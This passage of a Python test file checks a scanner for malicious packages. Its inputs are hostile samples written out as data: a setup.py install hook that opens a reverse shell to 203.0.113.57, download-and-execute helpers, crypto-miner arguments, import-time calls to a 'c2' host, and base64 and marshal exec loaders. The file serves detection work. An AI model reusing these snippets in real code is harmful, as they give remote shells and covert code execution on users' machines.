        f = Path(file)
        r = requests.get(url, timeout=30)
        f.write_bytes(r.content)
        return f

    def safe_run(path):
        os.chmod(path, 0o770)
        command = [path, "--quiet"]
        return subprocess.Popen(command)
    """
    findings = run("ultralytics/utils/downloads.py", source)
    assert at(findings, "download-exec", 14).severity == Severity.HIGH
    joined = run(
        "ultralytics/utils/downloads.py",
        textwrap.dedent(source)
        + "\ndef setup():\n    safe_run(safe_download('https://example.invalid/r', '/tmp/r'))\n",
    )
    assert at(joined, "download-exec", 17).severity == Severity.CRITICAL


def test_miner_arguments() -> None:
    findings = run(
        "pkg/worker.py",
        """
        import subprocess

        def start(binary, wallet):
            args = [binary, "-o", "pool.example.invalid:3333", "-u", wallet, "-k"]
            subprocess.Popen(args)
            subprocess.Popen(["./helper", "--url", "stratum+tcp://pool.example.invalid:443"])
            subprocess.run(["curl", "-o", "out.txt", "-u", "user:pass", "https://example.invalid"])
        """,
    )
    assert at(findings, "download-exec", 5).severity == Severity.HIGH
    assert at(findings, "download-exec", 6).severity == Severity.HIGH
    assert [f.line for f in findings if f.id == "download-exec"] == [5, 6]


def test_reverse_shell() -> None:
    findings = run(
        "10cent10-999.0.4/setup.py",
        """
        import os, socket, subprocess
        from setuptools import setup

        def shell():
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect(("203.0.113.57", 8080))
            os.dup2(s.fileno(), 0)
            os.dup2(s.fileno(), 1)
            subprocess.call(["/bin/sh", "-i"])

        if os.fork() == 0:
            shell()
        setup(name="x")
        """,
    )
    assert at(findings, "install-hook", 6).severity == Severity.HIGH
    assert at(findings, "download-exec", 9).severity == Severity.CRITICAL
    assert at(findings, "download-exec", 7).severity == Severity.CRITICAL


def test_unix_socket_and_terminal_helpers_stay_quiet() -> None:
    findings = run(
        "pkg/ipc.py",
        """
        import os, pty, socket, subprocess

        sock = socket.socket(socket.AF_UNIX)
        sock.connect("/run/app.sock")

        def terminal():
            pty.spawn("/bin/bash")
            subprocess.call(["bash", "-i"])
        """,
    )
    assert loud(findings) == []


def test_import_time_destination_is_read_through_names_and_formats() -> None:
    findings = run(
        "pkg/__init__.py",
        """
        import requests

        HOST = "c2.example.invalid"
        BASE = "https://telemetry.example.invalid"

        def send(path, host):
            requests.get(BASE + path)
            requests.get("https://%s/x" % host)

        send("/v1", HOST)
        requests.post("https://" + HOST + "/in")
        requests.get("https://{}/x".format(HOST.upper()))
        requests.get("http://localhost" + ":" + str(8080))
        """,
    )
    got = {f.line: f.severity for f in findings if f.id == "import-time-exec"}
    assert got == {
        7: Severity.HIGH,
        8: Severity.MEDIUM,  # "https://%s/x" % host: the host is not in the code
        11: Severity.HIGH,
        12: Severity.MEDIUM,
        13: Severity.LOW,
    }


def test_marshal_of_a_file_read_at_import_is_bytecode_loading() -> None:
    findings = run(
        "pkg/__init__.py",
        """
        import marshal, os
        with open(os.path.join(os.path.dirname(__file__), "core.bin"), "rb") as f:
            exec(marshal.loads(f.read()))
        """,
    )
    assert at(findings, "compiled-bytecode", 3).severity == Severity.HIGH


def test_a_file_in_newer_syntax_is_still_read_line_by_line() -> None:
    """Python 3.12 syntax does not parse on 3.11: the payload must not hide behind it."""
    src = (
        b"type Alias = list[int]\n"
        b"import base64\n"
        b"exec(base64.b64decode('cHJpbnQoMSk='))\n"
        b"HOOK = 'https://discord.com/api/webhooks/123/abc'\n"
    )
    found = {f.id: f for f in analyse_file("pkg/new.py", src)}
    assert found["unparsable-source"].severity == Severity.LOW
    assert found["obfuscated-exec"].severity == Severity.HIGH
    assert found["obfuscated-exec"].line == 3
    assert found["shady-url"].line == 4


def test_python2_code_without_payload_stays_low() -> None:
    src = b'print "hello"\nurl = "https://example.org/docs"\nexec code in ns\n'
    assert [f.id for f in analyse_file("pkg/old.py", src)] == ["unparsable-source"]
